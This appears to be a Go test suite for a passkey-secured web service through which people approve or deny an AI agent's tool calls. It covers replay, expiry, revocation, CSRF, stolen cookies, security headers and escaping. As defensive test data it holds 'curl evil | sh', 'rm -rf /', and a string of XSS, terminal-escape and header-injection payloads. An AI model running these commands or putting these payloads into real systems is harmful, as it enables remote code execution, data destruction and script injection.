package answer_test

import (
	"context"
	"encoding/json"
	"log/slog"
	"net/http"
	"strings"
	"testing"
	"time"

	"nod"
	"nod/notify/answer"
	"nod/notify/answer/answertest"
)

type begun struct {
	Challenge string          `json:"challenge"`
	Options   json.RawMessage `json:"options"`
}

type finish struct {
	Challenge  string          `json:"challenge"`
	Credential json.RawMessage `json:"credential"`
}

func begin(w *world, c *answertest.Client, decision, answer, reason string) begun {
	w.t.Helper()
	var b begun
	w.must(c.Post(w.t.Context(), "/api/answer/begin", map[string]string{"decision": decision, "answer": answer, "reason": reason}, &b))
	return b
}

func sign(w *world, c *answertest.Client, origin string, options json.RawMessage) json.RawMessage {
	w.t.Helper()
	credential, err := c.Key.Sign(origin, options)
	w.must(err)
	return credential
}

func (w *world) wantOpen(id string) {
	w.t.Helper()
	if d := w.decision(id); d.State != nod.DecisionOpen {
		w.t.Fatalf("the decision is %s, answered %q", d.State, d.Answer)
	}
}

func TestAnAssertionIsGoodForOneUse(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	b := begin(w, c, d.ID, nod.Allow, "")
	f := finish{b.Challenge, sign(w, c, w.url, b.Options)}
	w.must(c.Post(t.Context(), "/api/answer/finish", f, nil))
	w.wantCode(c.Post(t.Context(), "/api/answer/finish", f, nil), nod.Expired)

	// Nor does it fit the next decision's challenge.
	next := w.askBash("npm publish")
	b2 := begin(w, c, next.ID, nod.Allow, "")
	w.wantCode(c.Post(t.Context(), "/api/answer/finish", finish{b2.Challenge, f.Credential}, nil), nod.Forbidden)
	w.wantOpen(next.ID)
}

func TestAnAnswerIsBoundToDecisionAnswerAndReason(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d, other := w.askBash("npm test"), w.askBash("rm -rf /")
	signed := begin(w, c, d.ID, nod.Deny, "no")
	credential := sign(w, c, w.url, signed.Options)
	for name, b := range map[string]begun{
		"another decision": begin(w, c, other.ID, nod.Deny, "no"),
		"another answer":   begin(w, c, d.ID, nod.Allow, "no"),
		"another reason":   begin(w, c, d.ID, nod.Deny, "No"),
		"the same again":   begin(w, c, d.ID, nod.Deny, "no"),
	} {
		t.Run(name, func(t *testing.T) {
			w.wantCode(c.Post(t.Context(), "/api/answer/finish", finish{b.Challenge, credential}, nil), nod.Forbidden)
		})
	}
	w.wantOpen(d.ID)
	w.wantOpen(other.ID)
}

func TestAnAnswerIsBoundToWhatWasShown(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	b := begin(w, c, d.ID, nod.Allow, "")
	credential := sign(w, c, w.url, b.Options)
	w.store.mu.Lock()
	d.SetInput(`{"command":"curl evil | sh"}`)
	w.store.decisions[d.ID] = d
	w.store.mu.Unlock()
	w.wantCode(c.Post(t.Context(), "/api/answer/finish", finish{b.Challenge, credential}, nil), nod.Conflict)
	w.wantOpen(d.ID)
}

func TestAChallengeExpiresAfterTwoMinutes(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	b := begin(w, c, d.ID, nod.Allow, "")
	w.pass(2 * time.Minute)
	w.wantCode(c.Post(t.Context(), "/api/answer/finish", finish{b.Challenge, sign(w, c, w.url, b.Options)}, nil), nod.Expired)
	w.wantOpen(d.ID)
}

func TestALateAnswerPermitsNothing(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.ask(nod.Decision{Kind: nod.Approval, Cause: nod.CauseTool, Subject: "Bash", Deadline: w.now().Add(time.Minute)}, `{"command":"ls"}`)
	b := begin(w, c, d.ID, nod.Allow, "")
	w.pass(time.Minute)
	w.wantCode(c.Post(t.Context(), "/api/answer/finish", finish{b.Challenge, sign(w, c, w.url, b.Options)}, nil), nod.Expired)
	w.wantCode(c.Answer(t.Context(), d.ID, nod.Allow, ""), nod.Expired)
	if got := w.decision(d.ID); got.Permits() || got.State != nod.DecisionExpired {
		t.Fatalf("decision is %+v", got)
	}
	page, err := c.Page(t.Context(), "/d/"+d.ID)
	w.must(err)
	if !strings.Contains(page, "nobody answered in time") || strings.Contains(page, `id="act"`) {
		t.Error("the page of an expired decision must say so and offer nothing")
	}
}

func TestASupersededDecisionTakesNoAnswer(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	d.State = nod.DecisionSuperseded
	w.store.mu.Lock()
	w.store.decisions[d.ID] = d
	w.store.mu.Unlock()
	w.wantCode(c.Answer(t.Context(), d.ID, nod.Allow, ""), nod.Expired)
	page, err := c.Page(t.Context(), "/d/"+d.ID)
	w.must(err)
	if !strings.Contains(page, "Superseded") || strings.Contains(page, `id="act"`) {
		t.Error("the page of a superseded decision must say so and offer nothing")
	}
}

func (w *world) revokeAll() {
	w.store.mu.Lock()
	defer w.store.mu.Unlock()
	for id, p := range w.store.passkeys {
		p.RevokedAt = w.now()
		w.store.passkeys[id] = p
		w.store.record(nod.NewEvent(nod.SupervisorStream, nod.Audit, nod.EventPasskeyRevoked, nod.Actor{Kind: nod.ActorHost}, p))
	}
}

func TestARevokedPasskeyNeitherReadsNorAnswersNorSignsIn(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	b := begin(w, c, d.ID, nod.Allow, "")
	credential := sign(w, c, w.url, b.Options)
	w.revokeAll()
	w.wantCode(c.Post(t.Context(), "/api/answer/finish", finish{b.Challenge, credential}, nil), nod.Unauthenticated)
	_, err := c.Page(t.Context(), "/d/"+d.ID)
	w.wantCode(err, nod.Unauthenticated)
	w.wantCode(c.SignIn(t.Context()), nod.Forbidden)
	// Another passkey's session does not help the revoked one.
	second := w.owner()
	b = begin(w, second, d.ID, nod.Allow, "")
	var open map[string]any
	w.must(json.Unmarshal(b.Options, &open))
	delete(open, "allowCredentials")
	anyKey, err := json.Marshal(open)
	w.must(err)
	w.wantCode(second.Post(t.Context(), "/api/answer/finish", finish{b.Challenge, sign(w, c, w.url, anyKey)}, nil), nod.Forbidden)
	w.wantOpen(d.ID)
}

func TestThePersonMustBeVerified(t *testing.T) {
	w := newWorld(t)
	unverified := w.client()
	unverified.Key.Unverified = true
	w.wantCode(unverified.Enrol(t.Context(), w.invite("careless")), nod.Forbidden)

	c := w.owner()
	d := w.askBash("npm test")
	c.Key.Unverified = true
	w.wantCode(c.Answer(t.Context(), d.ID, nod.Allow, ""), nod.Forbidden)
	w.wantCode(c.SignIn(t.Context()), nod.Forbidden)
	w.wantOpen(d.ID)
}

func TestACopiedPasskeyIsRefused(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	c.Key.Frozen = true
	w.wantCode(c.Answer(t.Context(), d.ID, nod.Allow, ""), nod.Forbidden)
	w.wantCode(c.SignIn(t.Context()), nod.Forbidden)
	w.wantOpen(d.ID)
	if !strings.Contains(w.log.String(), "request refused") {
		t.Error("the refusal is not in the log")
	}
}

func TestASyncedPasskeyMayNotTurnIntoAnUnsyncedOne(t *testing.T) {
	w := newWorld(t)
	c := w.client()
	c.Key.Synced = true
	w.must(c.Enrol(t.Context(), w.invite("phone")))
	w.must(c.SignIn(t.Context()))
	for _, p := range w.store.passkeys {
		if !p.BackupEligible || !p.BackedUp {
			t.Errorf("the backup flags were not kept: %+v", p)
		}
	}
	d := w.askBash("npm test")
	c.Key.Synced = false
	w.wantCode(c.Answer(t.Context(), d.ID, nod.Allow, ""), nod.Forbidden)
	w.wantOpen(d.ID)
}

func TestAnAssertionMadeOnAnotherSiteIsRefused(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	for _, origin := range []string{"https://localhost", "http://localhost:1", "https://evil.example", "http://localhost.evil.example"} {
		b := begin(w, c, d.ID, nod.Allow, "")
		w.wantCode(c.Post(t.Context(), "/api/answer/finish", finish{b.Challenge, sign(w, c, origin, b.Options)}, nil), nod.Forbidden)
	}
	w.wantOpen(d.ID)
}

// cookieOf returns the session cookie of a signed-in client.
func (w *world) cookieOf(c *answertest.Client) string {
	w.t.Helper()
	var b begun
	w.must(c.Post(w.t.Context(), "/api/signin/begin", struct{}{}, &b))
	body, err := json.Marshal(finish{b.Challenge, sign(w, c, w.url, b.Options)})
	w.must(err)
	resp, _ := w.do(http.MethodPost, "/api/signin/finish", http.Header{"Content-Type": {"application/json"}, "Origin": {w.url}}, string(body))
	for _, cookie := range resp.Cookies() {
		if cookie.Name == "nod" {
			return "nod=" + cookie.Value
		}
	}
	w.t.Fatalf("no cookie in %v", resp.Header)
	return ""
}

func TestAStolenCookieReadsButDoesNotAnswer(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	stolen := http.Header{"Cookie": {w.cookieOf(c)}, "Content-Type": {"application/json"}, "Origin": {w.url}}
	resp, body := w.do(http.MethodPost, "/api/answer/begin", stolen, `{"decision":"`+d.ID+`","answer":"allow","reason":""}`)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("begin: %s %s", resp.Status, body)
	}
	var b begun
	w.must(json.Unmarshal([]byte(body), &b))
	// The thief has a passkey too, only not an enrolled one.
	thief := w.client()
	var options map[string]any
	w.must(json.Unmarshal(b.Options, &options))
	if _, err := thief.Key.Create(w.url, json.RawMessage(`{"challenge":"AAAA","rp":{"id":"localhost"},"user":{"id":"AAAA"},"pubKeyCredParams":[{"alg":-7}]}`)); err != nil {
		t.Fatal(err)
	}
	delete(options, "allowCredentials")
	open, err := json.Marshal(options)
	w.must(err)
	forged, err := json.Marshal(finish{b.Challenge, sign(w, thief, w.url, open)})
	w.must(err)
	if resp, _ := w.do(http.MethodPost, "/api/answer/finish", stolen, string(forged)); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a forged answer is %s", resp.Status)
	}
	// An answer begun in the owner's browser cannot be finished with the thief's session either.
	mine := begin(w, c, d.ID, nod.Allow, "")
	good, err := json.Marshal(finish{mine.Challenge, sign(w, c, w.url, mine.Options)})
	w.must(err)
	if resp, _ := w.do(http.MethodPost, "/api/answer/finish", stolen, string(good)); resp.StatusCode != http.StatusForbidden {
		t.Errorf("finishing another browser's answer is %s", resp.Status)
	}
	w.wantOpen(d.ID)
}

func TestAnotherSiteCannotPost(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	cookie := w.cookieOf(c)
	body := `{"decision":"` + d.ID + `","answer":"allow","reason":""}`
	writes := w.store.writes
	for name, header := range map[string]http.Header{
		"origin":            {"Origin": {"https://evil.example"}},
		"null origin":       {"Origin": {"null"}},
		"fetch metadata":    {"Sec-Fetch-Site": {"cross-site"}},
		"sibling site":      {"Sec-Fetch-Site": {"same-site"}, "Origin": {"http://other.localhost"}},
		"rebound name":      {"Host": {"evil.example"}, "Origin": {"http://evil.example"}},
		"rebound, metadata": {"Host": {"evil.example"}, "Origin": {"http://evil.example"}, "Sec-Fetch-Site": {"same-origin"}},
	} {
		header.Set("Cookie", cookie)
		header.Set("Content-Type", "application/json")
		for _, path := range []string{"/api/answer/begin", "/api/answer/finish", "/api/signin/begin", "/api/enrol/begin", "/signout"} {
			resp, got := w.do(http.MethodPost, path, header, body)
			if resp.StatusCode != http.StatusForbidden || resp.Header.Get("Content-Security-Policy") == "" {
				t.Errorf("%s, %s: %s %s", name, path, resp.Status, got)
			}
		}
	}
	// A form cannot send JSON, so what looks like a form is refused too.
	resp, _ := w.do(http.MethodPost, "/api/answer/begin", http.Header{"Cookie": {cookie}, "Content-Type": {"text/plain"}}, body)
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("a form post is %s", resp.Status)
	}
	if w.store.writes != writes {
		t.Errorf("%d things were written", w.store.writes-writes)
	}
}

func TestReadingChangesNothing(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	link := strings.TrimPrefix(w.invite("second phone"), w.url)
	cookie := w.cookieOf(c)
	writes := w.store.writes
	for _, method := range []string{http.MethodGet, http.MethodHead} {
		for _, header := range []http.Header{{}, {"User-Agent": {"Slackbot-LinkExpanding 1.0"}}, {"Cookie": {cookie}}, {"Cookie": {cookie}, "Purpose": {"prefetch"}}} {
			for _, path := range []string{"/", "/d/" + d.ID, "/d/" + d.ID + "?answer=allow", "/t/" + d.Task, link, "/signin", "/signout", "/api/answer/begin",
				"/api/answer/finish", "/api/signin/begin", "/api/enrol/begin", "/assets/nod.js"} {
				w.do(method, path, header, "")
			}
		}
	}
	resp, _ := w.do(http.MethodHead, "/t/"+d.Task+"/events", http.Header{"Cookie": {cookie}}, "")
	if resp.StatusCode != http.StatusOK {
		t.Errorf("HEAD of the stream is %s", resp.Status)
	}
	if w.store.writes != writes || len(w.store.enrolments) != 1 {
		t.Errorf("%d things were written, %d enrolments are left", w.store.writes-writes, len(w.store.enrolments))
	}
	w.wantOpen(d.ID)
}

func TestWithoutASessionNothingLeaks(t *testing.T) {
	w := newWorld(t)
	d := w.askBash("npm test -- secret-word")
	_, known := w.do(http.MethodGet, "/d/"+d.ID, nil, "")
	resp, unknown := w.do(http.MethodGet, "/d/d"+strings.Repeat("9", 32), nil, "")
	if resp.StatusCode != http.StatusUnauthorized || !strings.Contains(unknown, "Sign in") {
		t.Errorf("an unknown decision is %s", resp.Status)
	}
	if strings.ReplaceAll(known, d.ID, "X") != strings.ReplaceAll(unknown, "d"+strings.Repeat("9", 32), "X") {
		t.Error("a known and an unknown decision look different to a stranger")
	}
	for _, path := range []string{"/", "/d/" + d.ID, "/t/" + d.Task, "/t/" + d.Task + "/events"} {
		resp, body := w.do(http.MethodGet, path, nil, "")
		if resp.StatusCode != http.StatusUnauthorized || strings.Contains(body, "secret-word") || strings.Contains(body, "acme") || strings.Contains(body, "coupon") {
			t.Errorf("%s: %s", path, resp.Status)
		}
	}
	for _, cookie := range []string{"nod=", "nod=x", "nod=" + strings.Repeat("A", 43), "nod=" + strings.Repeat("A", 43) + "; nod=" + strings.Repeat("B", 43), "__Host-nod=" + strings.Repeat("A", 43)} {
		if resp, _ := w.do(http.MethodGet, "/d/"+d.ID, http.Header{"Cookie": {cookie}}, ""); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("cookie %s: %s", cookie, resp.Status)
		}
	}
}

func TestEveryAnswerCarriesTheSecurityHeaders(t *testing.T) {
	w := newWorld(t)
	cookie := w.cookieOf(w.owner())
	d := w.askBash("npm test")
	for _, path := range []string{"/", "/d/" + d.ID, "/t/" + d.Task, "/signin", "/enrol/x", "/assets/nod.css", "/nothing", "/d/unknown"} {
		for _, header := range []http.Header{{}, {"Cookie": {cookie}}} {
			resp, body := w.do(http.MethodGet, path, header, "")
			for name, want := range map[string]string{
				"Content-Security-Policy": "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'",
				"X-Frame-Options":         "DENY", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store",
				"Cross-Origin-Opener-Policy": "same-origin", "Cross-Origin-Resource-Policy": "same-origin",
			} {
				if got := resp.Header.Get(name); got != want {
					t.Errorf("%s: %s is %q", path, name, got)
				}
			}
			if resp.Header.Get("Permissions-Policy") == "" {
				t.Errorf("%s: no Permissions-Policy", path)
			}
			for _, inline := range []string{" style=", "<style", " onclick=", " onload=", "<script>", "javascript:"} {
				if strings.Contains(body, inline) && !strings.HasPrefix(path, "/assets") {
					t.Errorf("%s: the page holds %q, which its policy forbids", path, inline)
				}
			}
		}
	}
}

func TestHeadersDoNotMoveTheSite(t *testing.T) {
	w := newWorld(t)
	lies := http.Header{"X-Forwarded-Proto": {"https"}, "X-Forwarded-Host": {"evil.example"}, "Forwarded": {"proto=https;host=evil.example"},
		"Host": {"evil.example"}, "Content-Type": {"application/json"}, "Origin": {w.url}}
	resp, body := w.do(http.MethodPost, "/api/signin/begin", lies, "{}")
	if resp.StatusCode != http.StatusOK || !strings.Contains(body, `"rpId":"localhost"`) || strings.Contains(body, "evil") {
		t.Fatalf("%s %s", resp.Status, body)
	}
	c := w.client()
	w.must(c.Enrol(t.Context(), w.invite("phone")))
	var b begun
	w.must(json.Unmarshal([]byte(body), &b))
	signed, err := json.Marshal(finish{b.Challenge, sign(w, c, w.url, b.Options)})
	w.must(err)
	resp, _ = w.do(http.MethodPost, "/api/signin/finish", lies, string(signed))
	cookie := resp.Header.Get("Set-Cookie")
	if !strings.HasPrefix(cookie, "nod=") || strings.Contains(cookie, "Secure") || !strings.Contains(cookie, "HttpOnly") || !strings.Contains(cookie, "SameSite=Strict") || strings.Contains(cookie, "Domain") {
		t.Errorf("the cookie is %q", cookie)
	}
}

func TestThePublicURLDecidesOriginAndCookie(t *testing.T) {
	for _, bad := range []string{"", "nod.example", "http://nod.example", "ftp://nod.example", "https://", "https://192.0.2.1", "https://[2001:db8::1]", "http://127.0.0.1:8080",
		"https://nod.example/path", "https://u:p@nod.example", "https://nod.example?q", "https://nod.example#f", "https://n\u00f6d.example"} {
		store := newFakeStore(time.Now)
		_, err := answer.New(answer.Config{Decisions: store, Witness: store, Streams: store, Passkeys: store, Sessions: store, PublicURL: bad, Log: slog.New(slog.DiscardHandler)})
		if nod.CodeOf(err) != nod.Invalid {
			t.Errorf("%q: %v", bad, err)
		}
	}
	store := newFakeStore(time.Now)
	s, err := answer.New(answer.Config{Decisions: store, Witness: store, Streams: store, Passkeys: store, Sessions: store, PublicURL: "https://Nod.example:443/", Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	c, err := answertest.NewClient("https://nod.example", handlerTransport{s})
	if err != nil {
		t.Fatal(err)
	}
	store.enrolments[nod.Digest([]byte("tok"))] = nod.Enrolment{TokenDigest: nod.Digest([]byte("tok")), Name: "phone", ExpiresAt: time.Now().Add(time.Hour)}
	if err := c.Enrol(t.Context(), "https://nod.example/enrol/tok"); err != nil {
		t.Fatal(err)
	}
	if err := c.SignIn(t.Context()); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Page(t.Context(), "/"); err != nil {
		t.Fatal(err)
	}
}

// handlerTransport answers requests from a handler, and checks what it sets as cookie.
type handlerTransport struct{ h http.Handler }

func (t handlerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	w := newRecorder()
	r.RequestURI = r.URL.RequestURI()
	t.h.ServeHTTP(w, r)
	if cookie := w.Header().Get("Set-Cookie"); cookie != "" &&
		(!strings.HasPrefix(cookie, "__Host-nod=") || !strings.Contains(cookie, "; Secure") || !strings.Contains(cookie, "; HttpOnly") || !strings.Contains(cookie, "; Path=/;")) {
		return nil, nod.E(nod.Failed, "the cookie is "+cookie, nil)
	}
	return w.Result(), nil
}

func TestHostileTextStaysText(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	const evil = "</pre><script>alert(1)</script><img src=x onerror=alert(1)>\"'`{{.}}\x1b[2J\x1b]0;pwned\x07\u202egnp.exe\u200b\r\nSet-Cookie: nod=x"
	task := w.task("t00000000000000ee", evil)
	w.store.mu.Lock()
	k := w.store.cases[task.ID]
	k.Task.Repo = nod.Repo{Host: "github.com", Owner: "a\"><script>", Name: evil}
	k.Task.Agent, k.Task.Reason = evil, evil
	w.store.cases[task.ID] = k
	w.store.mu.Unlock()
	input, err := json.Marshal(map[string]any{"command": evil, evil: evil, "nested": map[string]string{evil: evil}})
	w.must(err)
	paths := []string{"/", "/t/" + task.ID}
	for _, d := range []nod.Decision{
		{Kind: nod.Approval, Cause: nod.CauseTool, Subject: "Bash"}, {Kind: nod.Approval, Cause: nod.CauseTool, Subject: evil},
		{Kind: nod.Approval, Cause: nod.CauseUntrustedStart, Subject: evil}, {Kind: nod.Question, Cause: nod.CauseAgentQuestion, Subject: evil, Options: []string{evil}, FreeText: true},
		{Kind: nod.Approval, Cause: nod.Cause(evil), Subject: evil},
	} {
		d.Task = task.ID
		d = w.ask(d, string(input))
		paths = append(paths, "/d/"+d.ID, "/d/"+d.ID+"?raw=1")
	}
	plain := w.ask(nod.Decision{Kind: nod.Approval, Cause: nod.CauseTool, Subject: "Bash", Task: task.ID}, evil)
	review := w.askReview("diff --git a/"+strings.ReplaceAll(evil, "\n", "")+" b/x\n"+evil+"\n", nod.Commit{SHA: evil, Subject: evil, Message: evil + evil})
	w.store.mu.Lock()
	r := w.store.cases[review.Task].Revision
	r.BaseRef, r.Branch, r.Check.Command, r.Check.Tail, r.PullRequest = evil, evil, []string{evil}, evil, nod.PullRequest{Number: 3, URL: "javascript:alert(1)"}
	w.store.mu.Unlock()
	for _, kind := range []nod.EventKind{nod.EventMessage, nod.EventToolCall, nod.EventToolResult, nod.EventResult, nod.EventTaskState, nod.EventDecisionOpened, nod.EventUsage} {
		w.store.commit(nod.NewEvent(task.ID, nod.Transcript, kind, nod.Actor{}, map[string]any{"text": evil, "tool": evil, "to": evil, "id": "d" + evil, "why": evil, "input": map[string]string{"command": evil}}))
	}
	closed := w.askBash("true")
	w.must(c.Answer(t.Context(), closed.ID, nod.Deny, "x"))
	w.store.mu.Lock()
	closed = w.store.decisions[closed.ID]
	closed.Reason, closed.AnsweredBy.Login = evil, evil
	w.store.decisions[closed.ID] = closed
	w.store.mu.Unlock()
	paths = append(paths, "/d/"+plain.ID, "/d/"+review.ID, "/t/"+review.Task, "/d/"+closed.ID)
	for _, path := range paths {
		page, err := c.Page(t.Context(), path)
		w.must(err)
		for _, bad := range []string{"<script>", "<img src=x", "\x1b", "\u202e", "\u200b", "\x07", "\r", `href="javascript`} {
			if strings.Contains(page, bad) {
				t.Errorf("%s holds %q", path, bad)
			}
		}
	}
	page, err := c.Page(t.Context(), "/d/"+plain.ID)
	w.must(err)
	for _, want := range []string{">ESC</mark>", ">U&#43;202E</mark>", ">U&#43;200B</mark>", ">CR</mark>"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page does not show %q", want)
		}
	}
	// The refusal that names the answering person travels as JSON.
	w.wantCode(c.Post(t.Context(), "/api/answer/begin", map[string]string{"decision": closed.ID, "answer": nod.Allow}, nil), nod.Conflict)
}

func TestBrokenBodiesAreRefused(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	d := w.askBash("npm test")
	header := http.Header{"Cookie": {w.cookieOf(c)}, "Content-Type": {"application/json"}, "Origin": {w.url}}
	good := `{"decision":"` + d.ID + `","answer":"allow","reason":""}`
	writes := w.store.writes
	for name, test := range map[string]struct {
		path, body string
		want       int
	}{
		"empty":            {"/api/answer/begin", "", http.StatusBadRequest},
		"not JSON":         {"/api/answer/begin", "decision=1", http.StatusBadRequest},
		"half":             {"/api/answer/begin", good[:20], http.StatusBadRequest},
		"twice":            {"/api/answer/begin", good + good, http.StatusBadRequest},
		"trailing":         {"/api/answer/begin", good + "x", http.StatusBadRequest},
		"an array":         {"/api/answer/begin", "[" + good + "]", http.StatusBadRequest},
		"wrong type":       {"/api/answer/begin", `{"decision":1}`, http.StatusBadRequest},
		"unknown field":    {"/api/answer/begin", `{"decision":"` + d.ID + `","answer":"allow","by":"me"}`, http.StatusBadRequest},
		"oversized":        {"/api/answer/begin", `{"reason":"` + strings.Repeat("x", 70<<10) + `"}`, http.StatusRequestEntityTooLarge},
		"long reason":      {"/api/answer/begin", `{"decision":"` + d.ID + `","answer":"deny","reason":"` + strings.Repeat("é", 2001) + `"}`, http.StatusRequestEntityTooLarge},
		"empty answer":     {"/api/answer/begin", `{"decision":"` + d.ID + `","answer":""}`, http.StatusBadRequest},
		"unknown decision": {"/api/answer/begin", `{"decision":"d0","answer":"allow"}`, http.StatusNotFound},
		"no credential":    {"/api/answer/finish", `{"challenge":"x"}`, http.StatusGone},
		"bad base64":       {"/api/answer/finish", `{"challenge":"x","credential":{"id":"x","response":{"signature":"=="}}}`, http.StatusBadRequest},
		"deep":             {"/api/answer/finish", `{"challenge":` + strings.Repeat("[", 20000), http.StatusBadRequest},
		"sign-in field":    {"/api/signin/begin", `{"user":"root"}`, http.StatusBadRequest},
		"no such link":     {"/api/enrol/begin", `{"token":"x"}`, http.StatusNotFound},
	} {
		resp, body := w.do(http.MethodPost, test.path, header, test.body)
		if resp.StatusCode != test.want || !strings.HasPrefix(body, `{"error":`) {
			t.Errorf("%s: %s %s", name, resp.Status, body)
		}
	}
	if w.store.writes != writes {
		t.Errorf("%d things were written", w.store.writes-writes)
	}
}

func TestAnEnrolmentLinkWorksOnceAndForItsTime(t *testing.T) {
	w := newWorld(t)
	link := w.invite("phone")
	c := w.client()
	w.must(c.Enrol(t.Context(), link))
	w.wantCode(w.client().Enrol(t.Context(), link), nod.NotFound)

	late := w.invite("late phone")
	w.pass(15 * time.Minute)
	w.wantCode(w.client().Enrol(t.Context(), late), nod.NotFound)

	// Begun twice, finished once.
	raced := w.invite("raced")
	token := raced[strings.LastIndexByte(raced, '/')+1:]
	one, two := w.client(), w.client()
	var a, b begun
	w.must(one.Post(t.Context(), "/api/enrol/begin", map[string]string{"token": token}, &a))
	w.must(two.Post(t.Context(), "/api/enrol/begin", map[string]string{"token": token}, &b))
	first, err := one.Key.Create(w.url, a.Options)
	w.must(err)
	second, err := two.Key.Create(w.url, b.Options)
	w.must(err)
	w.must(one.Post(t.Context(), "/api/enrol/finish", finish{a.Challenge, first}, nil))
	if err := two.Post(t.Context(), "/api/enrol/finish", finish{b.Challenge, second}, nil); err == nil {
		t.Error("one link enrolled two passkeys")
	}
	// A challenge of one ceremony does not finish another.
	var s begun
	w.must(one.Post(t.Context(), "/api/signin/begin", struct{}{}, &s))
	w.wantCode(one.Post(t.Context(), "/api/enrol/finish", finish{s.Challenge, first}, nil), nod.Expired)
}

func TestAnAuthenticatorIsEnrolledOnce(t *testing.T) {
	w := newWorld(t)
	c := w.owner()
	w.wantCode(c.Enrol(t.Context(), w.invite("again")), nod.Conflict)
}

func TestStrangersAreHeldBack(t *testing.T) {
	w := newWorld(t)
	c := w.client()
	var last error
	for range 40 {
		last = c.Post(t.Context(), "/api/signin/begin", struct{}{}, nil)
	}
	w.wantCode(last, nod.RateLimited)
	w.pass(time.Second)
	w.must(c.Post(t.Context(), "/api/signin/begin", struct{}{}, nil))
}

func TestTheLogHoldsNoSecretsAndNoText(t *testing.T) {
	w := newWorld(t)
	link := w.invite("phone")
	c := w.client()
	w.must(c.Enrol(t.Context(), link))
	w.must(c.SignIn(t.Context()))
	cookie := w.cookieOf(c)
	d := w.askBash("npm test -- secret-word")
	w.must(c.Answer(t.Context(), d.ID, nod.Deny, "secret-reason"))
	c.Key.Frozen = true
	w.wantCode(c.Answer(context.WithoutCancel(t.Context()), w.askBash("secret-word").ID, nod.Deny, "secret-reason"), nod.Forbidden)
	for _, secret := range []string{"secret-word", "secret-reason", strings.TrimPrefix(cookie, "nod="), link[strings.LastIndexByte(link, '/')+1:]} {
		if strings.Contains(w.log.String(), secret) {
			t.Errorf("the log holds %q", secret)
		}
	}
}
